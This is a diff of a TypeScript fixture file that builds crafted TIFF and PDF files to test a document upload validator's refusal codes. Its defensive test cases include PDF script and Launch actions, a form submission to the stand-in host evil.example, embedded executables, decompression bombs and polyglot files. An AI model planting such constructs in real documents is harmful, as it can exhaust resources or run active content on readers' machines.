@@ -3,13 +3,16 @@ import sharp from 'sharp';
 import { drawing, makePdf, onePagePdf, streamObject } from '../imaging/opening/hostile.testing.ts';
 import { g4Page, makeTiff, type TestPage } from '../imaging/tiff/make-tiff.testing.ts';
 
-/** White rows in CCITT group 4, one bit each, and the end-of-data code. */
+// TIFF tags by number: 256 width, 257 height, 258 bits per sample, 259 compression, 262 photometric interpretation, 273 strip offsets,
+// 277 samples per pixel, 278 rows per strip, 279 bytes per strip.
+
+/** White rows in CCITT group 4 (each takes one bit), followed by the end-of-data code. */
 const whiteRows = (count: number): Buffer =>
   Buffer.concat([Buffer.alloc(Math.floor(count / 8), 0xff), Buffer.from('001001', 'hex')]);
-const white = (width: number, height: number, more: Record<number, number> = {}): TestPage =>
+const whitePage = (width: number, height: number, more: Record<number, number> = {}): TestPage =>
   g4Page(whiteRows(height), { 256: width, 257: height, 278: height, ...more });
-/** A page of 8 by 8 dots, not compressed. */
-const plain = (tags: Record<number, number> = {}): TestPage => ({
+/** An uncompressed page of 8 by 8 pixels. */
+const uncompressedPage = (tags: Record<number, number> = {}): TestPage => ({
   tags: { 256: 8, 257: 8, 258: 1, 259: 1, 262: 0, 277: 1, 278: 8, ...tags },
   strips: [Buffer.alloc(8)],
 });
@@ -45,28 +48,33 @@ function bigEndianBigTiff(): Buffer {
 }
 
 /** A TIFF of two pages, where the second points back to the first. */
-function circle(): Buffer {
-  const open = makeTiff([plain(), plain()]);
-  return makeTiff([plain(), plain()], { lastNext: open.readUInt32LE(4) });
+function circularTiff(): Buffer {
+  const regular = makeTiff([uncompressedPage(), uncompressedPage()]);
+  return makeTiff([uncompressedPage(), uncompressedPage()], { lastNext: regular.readUInt32LE(4) });
 }
 
+const MOVIE = '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>';
 const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
 /** A PDF whose catalog and open action are in an object stream, with a cross-reference stream instead of a table. */
 function inCompressedObjects(action: string): Buffer {
-  const inside = [
+  const objectsInStream = [
     [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'],
     [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
     [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'],
     [4, action],
   ] as const;
   let text = '';
-  const head = inside.map(([number, object]) => {
+  const offsets = objectsInStream.map(([number, object]) => {
     const entry = `${number} ${text.length}`;
     text += `${object} `;
     return entry;
   });
-  const first = `${head.join(' ')} `;
-  const stream = streamObject(Buffer.from(first + text), 1, `/Type /ObjStm /N ${inside.length} /First ${first.length}`);
+  const index = `${offsets.join(' ')} `;
+  const stream = streamObject(
+    Buffer.from(index + text),
+    1,
+    `/Type /ObjStm /N ${objectsInStream.length} /First ${index.length}`,
+  );
   const before = Buffer.from('%PDF-1.7\n', 'latin1');
   const objects = Buffer.concat([Buffer.from('5 0 obj\n'), stream, Buffer.from('\nendobj\n')]);
   const tableAt = before.length + objects.length;
@@ -79,7 +87,7 @@ function inCompressedObjects(action: string): Buffer {
   };
   const rows = Buffer.concat([
     row(0, 0, 255),
-    ...inside.map((_, index) => row(2, 5, index)),
+    ...objectsInStream.map((_, position) => row(2, 5, position)),
     row(1, before.length, 0),
     row(1, tableAt, 0),
   ]);
@@ -88,8 +96,10 @@ function inCompressedObjects(action: string): Buffer {
   return Buffer.concat([before, objects, Buffer.from('6 0 obj\n'), table, end]);
 }
 
+/** A PDF of one page with an annotation. */
 const annotated = (annotation: string, ...more: (string | Buffer)[]): Buffer =>
   onePagePdf(drawing, { page: '/Annots [5 0 R]', more: [annotation, ...more] });
+/** A PDF with this number of empty pages. */
 const pdfOfPages = (count: number): Buffer =>
   makePdf([
     '<< /Type /Catalog /Pages 2 0 R >>',
@@ -97,7 +107,7 @@ const pdfOfPages = (count: number): Buffer =>
     ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'),
   ]);
 /** Appends a newer catalog to a file, as an editor does in an incremental update. */
-function updated(pdf: Buffer, catalog: string): Buffer {
+function withUpdate(pdf: Buffer, catalog: string): Buffer {
   const text = pdf.toString('latin1');
   const before = /startxref\n(\d+)/.exec(text)?.[1] ?? '0';
   const object = `1 0 obj\n${catalog}\nendobj\n`;
@@ -114,23 +124,23 @@ const withTable = (pdf: Buffer, table: string): Buffer => {
 };
 
 /** The expected outcome for a document: its page count, or the code of its refusal. */
-export type ExpectedOutcome =
+export type Outcome =
   | number
   | 'EFILE_FORMAT'
   | 'EFILE_UNREADABLE'
   | 'EFILE_PROTECTED'
   | 'EFILE_ACTIVE'
   | 'EFILE_TOO_MANY_PAGES';
-export type MadeDocument = readonly [what: string, bytes: Buffer, fate: ExpectedOutcome];
+export type TestDocument = readonly [description: string, bytes: Buffer, outcome: Outcome];
 
-/** Kinds of TIFF that scanners, converters and attackers make. */
-export async function madeTiffs(): Promise<readonly MadeDocument[]> {
+/** TIFFs as scanners, converters and attackers make them. */
+export async function craftedTiffs(): Promise<readonly TestDocument[]> {
   const [width, height] = [1700, 2200];
-  const dots = Buffer.from(Array.from({ length: width * height }, (_, at) => ((at >> 5) % 7 === 0 ? 0 : 255)));
-  const gray = sharp(dots, { raw: { width, height, channels: 1 } }).toColourspace('b-w');
+  const pixels = Buffer.from(Array.from({ length: width * height }, (_, at) => ((at >> 5) % 7 === 0 ? 0 : 255)));
+  const gray = sharp(pixels, { raw: { width, height, channels: 1 } }).toColourspace('b-w');
   const color = sharp({ create: { width: 400, height: 300, channels: 3, background: 'red' } });
-  const one = makeTiff([plain()]);
-  const inZip = Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]);
+  const one = makeTiff([uncompressedPage()]);
+  const withZip = Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]);
   const deflated = (side: number): TestPage => ({
     tags: { 256: side, 257: side, 258: 1, 259: 8, 262: 1, 277: 1, 278: side },
     strips: [deflateSync(Buffer.alloc((side / 8) * side))],
@@ -138,44 +148,53 @@ export async function madeTiffs(): Promise<readonly MadeDocument[]> {
   return [
     ['G4 in tiles', await gray.clone().tiff({ compression: 'ccittfax4', bitdepth: 1, tile: true }).toBuffer(), 1],
     ['G4 in strips', await gray.clone().tiff({ compression: 'ccittfax4', bitdepth: 1 }).toBuffer(), 1],
-    ['16 bits a dot', await gray.clone().toColourspace('rgb16').tiff({ compression: 'lzw' }).toBuffer(), 1],
+    ['16 bits per pixel', await gray.clone().toColourspace('rgb16').tiff({ compression: 'lzw' }).toBuffer(), 1],
     ['CMYK', await color.clone().toColourspace('cmyk').tiff({ compression: 'lzw' }).toBuffer(), 1],
     ['BigTIFF', await gray.clone().tiff({ bigtiff: true, compression: 'deflate' }).toBuffer(), 1],
     ['BigTIFF, most significant byte first', bigEndianBigTiff(), 1],
-    ['most significant byte first, two pages', makeTiff([plain(), plain()], { isBigEndian: true }), 2],
-    ['pages in a circle', circle(), 2],
-    ['a zip behind it', inZip, 1],
-    ['a page of 24,000 x 24,000 dots in 3 KB of G4', makeTiff([white(24_000, 24_000)]), 1],
-    ['a page of 65,535 x 65,535 dots in 8 KB of G4', makeTiff([white(65_535, 65_535)]), 'EFILE_UNREADABLE'],
     [
-      'a hundred pages of 20,000 x 20,000 dots of G4',
-      makeTiff(Array.from({ length: 100 }, () => white(20_000, 20_000))),
+      'most significant byte first, two pages',
+      makeTiff([uncompressedPage(), uncompressedPage()], { isBigEndian: true }),
+      2,
+    ],
+    ['a second page that points back to the first', circularTiff(), 2],
+    ['a TIFF followed by a zip file', withZip, 1],
+    ['a page of 24,000 x 24,000 pixels in 3 KB of G4', makeTiff([whitePage(24_000, 24_000)]), 1],
+    ['a page of 65,535 x 65,535 pixels in 8 KB of G4', makeTiff([whitePage(65_535, 65_535)]), 'EFILE_UNREADABLE'],
+    [
+      '100 pages of 20,000 x 20,000 pixels in G4',
+      makeTiff(Array.from({ length: 100 }, () => whitePage(20_000, 20_000))),
       'EFILE_TOO_MANY_PAGES',
     ],
-    ['a page of 24,000 x 24,000 dots of deflate', makeTiff([deflated(24_000)]), 1],
-    ['thousand pages', makeTiff(Array.from({ length: 1_000 }, () => plain())), 1_000],
-    ['one page more', makeTiff(Array.from({ length: 1_001 }, () => plain())), 'EFILE_TOO_MANY_PAGES'],
+    ['a page of 24,000 x 24,000 pixels in deflate', makeTiff([deflated(24_000)]), 1],
+    ['1,000 pages', makeTiff(Array.from({ length: 1_000 }, () => uncompressedPage())), 1_000],
+    ['1,001 pages', makeTiff(Array.from({ length: 1_001 }, () => uncompressedPage())), 'EFILE_TOO_MANY_PAGES'],
     ...([34712, 34661, 34925, 34887, 32766, 65000] as const).map(
-      (compression): MadeDocument => [
+      (compression): TestDocument => [
         `compression ${compression}`,
-        makeTiff([plain({ 259: compression })]),
+        makeTiff([uncompressedPage({ 259: compression })]),
         'EFILE_UNREADABLE',
       ],
     ),
     [
-      'a second page that breaks off',
-      makeTiff([plain(), g4Page(Buffer.from('0011223344', 'hex'))]),
+      'a second page with truncated data',
+      makeTiff([uncompressedPage(), g4Page(Buffer.from('0011223344', 'hex'))]),
       'EFILE_UNREADABLE',
     ],
-    ['a directory that lies behind its end', makeTiff([plain()], { lastNext: 99_999_999 }), 'EFILE_UNREADABLE'],
+    [
+      'a directory offset beyond the end of the file',
+      makeTiff([uncompressedPage()], { lastNext: 99_999_999 }),
+      'EFILE_UNREADABLE',
+    ],
     ['no directory', Buffer.from('II*\0\0\0\0\0', 'latin1'), 'EFILE_UNREADABLE'],
-    ['nothing behind its mark', Buffer.from('MM\0*', 'latin1'), 'EFILE_UNREADABLE'],
-    ['dots without a width', makeTiff([plain({ 256: 0 })]), 'EFILE_UNREADABLE'],
-    ['strips that lie behind its end', replacedStrip(one), 'EFILE_UNREADABLE'],
+    ['nothing after the signature', Buffer.from('MM\0*', 'latin1'), 'EFILE_UNREADABLE'],
+    ['an image width of 0', makeTiff([uncompressedPage({ 256: 0 })]), 'EFILE_UNREADABLE'],
+    ['strip offsets beyond the end of the file', withStripOffsetsBeyondEnd(one), 'EFILE_UNREADABLE'],
   ];
 }
 
-function replacedStrip(tiff: Buffer): Buffer {
+/** Changes the strip offsets (tag 273) to an offset beyond the end of the file. */
+function withStripOffsetsBeyondEnd(tiff: Buffer): Buffer {
   const changed = Buffer.from(tiff);
   const directory = changed.readUInt32LE(4);
   const count = changed.readUInt16LE(directory);
@@ -186,54 +205,54 @@ function replacedStrip(tiff: Buffer): Buffer {
   return changed;
 }
 
-/** Kinds of PDF that printers, editors and attackers make. */
-export function madePdfs(): readonly MadeDocument[] {
+/** PDFs as printers, editors and attackers make them. */
+export function craftedPdfs(): readonly TestDocument[] {
   const one = onePagePdf(drawing);
   const embedded = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>';
   const file = streamObject(Buffer.from('MZ'), 0, '/Type /EmbeddedFile');
   const link = (action: string): Buffer =>
     annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A ${action} >>`);
   return [
-    ['a table that leads nowhere', replaced(one, /startxref\n\d+/, 'startxref\n99999999'), 1],
-    ['a table of rubbish', withTable(one, 'xref\n0 5\nrubbish\n'), 1],
-    ['no table', withTable(one, ''), 1],
-    ['neither table nor trailer', one.subarray(0, one.lastIndexOf('xref\n0')), 'EFILE_UNREADABLE'],
-    ['a version of tomorrow', replaced(one, /%PDF-1\.7/, '%PDF-2.9'), 1],
-    ['a link to a page of the web', link('<< /S /URI /URI (https://example.com) >>'), 1],
-    ['a zip behind it', Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]), 1],
+    ['a cross-reference offset beyond the end of the file', replaced(one, /startxref\n\d+/, 'startxref\n99999999'), 1],
+    ['a cross-reference table with invalid content', withTable(one, 'xref\n0 5\nrubbish\n'), 1],
+    ['no cross-reference table', withTable(one, ''), 1],
+    ['neither cross-reference table nor trailer', one.subarray(0, one.lastIndexOf('xref\n0')), 'EFILE_UNREADABLE'],
+    ['a future version of PDF', replaced(one, /%PDF-1\.7/, '%PDF-2.9'), 1],
+    ['a link to a website', link('<< /S /URI /URI (https://example.com) >>'), 1],
+    ['a PDF followed by a zip file', Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]), 1],
     [
-      'a gigabyte in a few bytes on its page',
+      'content that unpacks to 256 MB',
       onePagePdf(streamObject(Buffer.alloc(256 * 1024 * 1024, ' '), 2)),
       'EFILE_UNREADABLE',
     ],
-    ['thousand pages', pdfOfPages(1_000), 1_000],
+    ['1,000 pages', pdfOfPages(1_000), 1_000],
     ['10,000 pages', pdfOfPages(10_000), 'EFILE_TOO_MANY_PAGES'],
-    ['a count of pages that is a lie', replaced(one, /\/Count 1/, '/Count 2147483647'), 1],
+    ['a wrong page count', replaced(one, /\/Count 1/, '/Count 2147483647'), 1],
     ['a script in compressed objects', inCompressedObjects(script), 'EFILE_ACTIVE'],
-    ['a page to open at in compressed objects', inCompressedObjects('[3 0 R /Fit]'), 1],
+    ['a page to open at, in compressed objects', inCompressedObjects('[3 0 R /Fit]'), 1],
     [
-      'a script of a newer version of it',
-      updated(one, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`),
+      'a script added by an incremental update',
+      withUpdate(one, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`),
       'EFILE_ACTIVE',
     ],
-    ['a script behind a link', link(script), 'EFILE_ACTIVE'],
-    ['a script behind another action', link(`<< /S /URI /URI (x) /Next ${script} >>`), 'EFILE_ACTIVE'],
+    ['a link that runs a script', link(script), 'EFILE_ACTIVE'],
+    ['a script that follows another action of a link', link(`<< /S /URI /URI (x) /Next ${script} >>`), 'EFILE_ACTIVE'],
     [
-      'a script by its name',
+      'a named script',
       onePagePdf(drawing, { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [script] }),
       'EFILE_ACTIVE',
     ],
-    ['a program behind a link', link('<< /S /Launch /F (calc.exe) >>'), 'EFILE_ACTIVE'],
-    ['a form that is sent', link('<< /S /SubmitForm /F (http://evil.example) >>'), 'EFILE_ACTIVE'],
+    ['a link that starts a program', link('<< /S /Launch /F (calc.exe) >>'), 'EFILE_ACTIVE'],
+    ['a link that submits a form', link('<< /S /SubmitForm /F (http://evil.example) >>'), 'EFILE_ACTIVE'],
     [
       'an attached file',
       annotated('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>', file, embedded),
       'EFILE_ACTIVE',
     ],
     ['an associated file', onePagePdf(drawing, { catalog: '/AF [5 0 R]', more: [embedded, file] }), 'EFILE_ACTIVE'],
-    ['a film', annotated('<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>'), 'EFILE_ACTIVE'],
+    ['a movie', annotated(MOVIE), 'EFILE_ACTIVE'],
     [
-      'a form of XFA',
+      'an XFA form',
       onePagePdf(drawing, {
         catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
         more: [streamObject(Buffer.from('<xdp/>'), 0)],
@@ -241,13 +260,13 @@ export function madePdfs(): readonly MadeDocument[] {
       'EFILE_ACTIVE',
     ],
     ['a password', passwordProtected(), 'EFILE_PROTECTED'],
-    ['nothing behind its mark', Buffer.from('%PDF-1.7\n'), 'EFILE_UNREADABLE'],
+    ['nothing after the signature', Buffer.from('%PDF-1.7\n'), 'EFILE_UNREADABLE'],
     [
-      'a page that is not there',
+      'a page object that is missing',
       replaced(one, /\/Kids \[3 0 R\] \/Count 1/, '/Kids [3 0 R 99 0 R] /Count 2'),
       'EFILE_UNREADABLE',
     ],
-    ['half of it', one.subarray(0, one.length / 2), 'EFILE_UNREADABLE'],
+    ['the first half of a PDF', one.subarray(0, one.length / 2), 'EFILE_UNREADABLE'],
   ];
 }
 
@@ -262,12 +281,12 @@ function passwordProtected(): Buffer {
 }
 
 /** Files that are neither PDF nor TIFF. */
-export async function otherFiles(): Promise<readonly MadeDocument[]> {
+export async function otherFiles(): Promise<readonly TestDocument[]> {
   const picture = sharp({ create: { width: 64, height: 64, channels: 3, background: 'blue' } });
   const pdf = onePagePdf(drawing);
-  const before = (mark: string): Buffer => Buffer.concat([Buffer.from(mark, 'latin1'), pdf]);
+  const pdfAfter = (prefix: string): Buffer => Buffer.concat([Buffer.from(prefix, 'latin1'), pdf]);
   const all: readonly (readonly [string, Buffer])[] = [
-    ['nothing', Buffer.alloc(0)],
+    ['an empty file', Buffer.alloc(0)],
     ['one byte', Buffer.from('%')],
     ['a JPEG', await picture.clone().jpeg().toBuffer()],
     ['a PNG', await picture.clone().png().toBuffer()],
@@ -275,12 +294,12 @@ export async function otherFiles(): Promise<readonly MadeDocument[]> {
     ['a GIF', await picture.clone().gif().toBuffer()],
     ['a Word document', Buffer.from('PK\u0003\u0004[Content_Types].xml', 'latin1')],
     ['PostScript', Buffer.from('%!PS-Adobe-3.0\n')],
-    ['a page of HTML that is a PDF too', before('<html><script>alert(1)</script>')],
-    ['a zip that is a PDF too', before('PK\u0003\u0004')],
-    ['a GIF that is a PDF too', before('GIF89a')],
-    ['a PDF behind a mark of Unicode', before('\u00ef\u00bb\u00bf')],
-    ['a TIFF of another number', Buffer.from('II\x2b\x01\x08\0\0\0', 'latin1')],
-    ['words', Buffer.from('Dear county,')],
+    ['HTML followed by a PDF', pdfAfter('<html><script>alert(1)</script>')],
+    ['a zip signature followed by a PDF', pdfAfter('PK\u0003\u0004')],
+    ['a GIF signature followed by a PDF', pdfAfter('GIF89a')],
+    ['a byte order mark followed by a PDF', pdfAfter('\u00ef\u00bb\u00bf')],
+    ['a TIFF with an unknown version number', Buffer.from('II\x2b\x01\x08\0\0\0', 'latin1')],
+    ['plain text', Buffer.from('Dear county,')],
   ];
-  return all.map(([what, bytes]) => [what, bytes, 'EFILE_FORMAT']);
+  return all.map(([description, bytes]) => [description, bytes, 'EFILE_FORMAT']);
 }
